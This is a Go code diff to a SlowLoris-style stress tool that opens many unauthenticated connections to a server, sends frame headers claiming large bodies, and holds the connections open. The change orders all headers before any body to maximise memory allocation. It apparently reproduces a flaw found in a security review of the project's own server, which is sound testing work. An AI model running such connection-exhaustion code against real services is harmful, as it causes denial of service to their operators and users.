@@ -15,8 +15,8 @@ import (
 
 // SlowLoris opens Conns client connections (port 9421, no credentials
 // needed), sends a hello, then a frame header claiming Claim bytes followed
-// by Body bytes of it, never the rest, and holds every connection open for
-// Hold (review M1, E4). Today the master allocates the whole claimed body
+// by Body bytes of it, never the rest, and holds every connection open
+// until Hold has passed since it started (review M1, E4). Today the master allocates the whole claimed body
 // for each header at once and never times the read out.
 type SlowLoris struct {
 	Target
@@ -38,7 +38,9 @@ type LorisResult struct {
 	Bytes    int64
 }
 
-// Run holds the connections for Hold, then closes them all.
+// Run opens every connection and sends every header first (each header
+// alone made the master allocate the whole claimed body), then the
+// bodies, holds the connections for Hold, and closes them all.
 func (s SlowLoris) Run(ctx context.Context) (LorisResult, error) {
 	claim := s.Claim
 	if claim == 0 {
@@ -60,16 +62,19 @@ func (s SlowLoris) Run(ctx context.Context) (LorisResult, error) {
 		mu      sync.Mutex
 		r       LorisResult
 		wg      sync.WaitGroup
-		sentWG  sync.WaitGroup
+		headers sync.WaitGroup // every connection opened and its header sent (or failed)
+		sentWG  sync.WaitGroup // every body sent (or failed)
 		holdEnd = time.Now().Add(s.Hold)
 	)
+	headers.Add(s.Conns)
 	sentWG.Add(s.Conns)
 	for i := 0; i < s.Conns; i++ {
 		wg.Add(1)
 		go func() {
 			defer wg.Done()
-			once := sync.OnceFunc(sentWG.Done)
-			defer once()
+			headerDone, bodyDone := sync.OnceFunc(headers.Done), sync.OnceFunc(sentWG.Done)
+			defer headerDone()
+			defer bodyDone()
 			c, err := Open(ctx, s.Target, frame.Hello{Kind: frame.KindClient})
 			if err != nil {
 				return
@@ -78,9 +83,13 @@ func (s SlowLoris) Run(ctx context.Context) (LorisResult, error) {
 			mu.Lock()
 			r.Opened++
 			mu.Unlock()
-			if c.Write(hdr) != nil {
+			ok := c.Write(hdr) == nil
+			headerDone()
+			if !ok {
 				return
 			}
+			headers.Wait() // every header is in before any body
+			c.timeout = 5 * time.Second
 			n := 0
 			for n < body && ctx.Err() == nil {
 				k := min(len(chunk), body-n)
@@ -95,7 +104,7 @@ func (s SlowLoris) Run(ctx context.Context) (LorisResult, error) {
 				r.Complete++
 			}
 			mu.Unlock()
-			once()
+			bodyDone()
 			// Hold: the master has nothing to say until the frame is
 			// complete; any read result but a timeout means it cut us.
 			for time.Now().Before(holdEnd) && ctx.Err() == nil {
